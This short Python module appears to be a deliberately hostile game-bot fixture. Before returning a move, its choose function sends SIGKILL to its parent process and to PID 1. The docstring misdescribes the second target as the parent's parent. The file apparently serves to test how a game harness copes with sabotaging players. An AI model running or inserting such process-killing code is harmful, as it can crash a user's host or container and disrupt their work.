"""Kills its parent, and its parent's."""

import os
import signal


def choose(position):
    for pid in (os.getppid(), 1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return position.legal_moves[0]
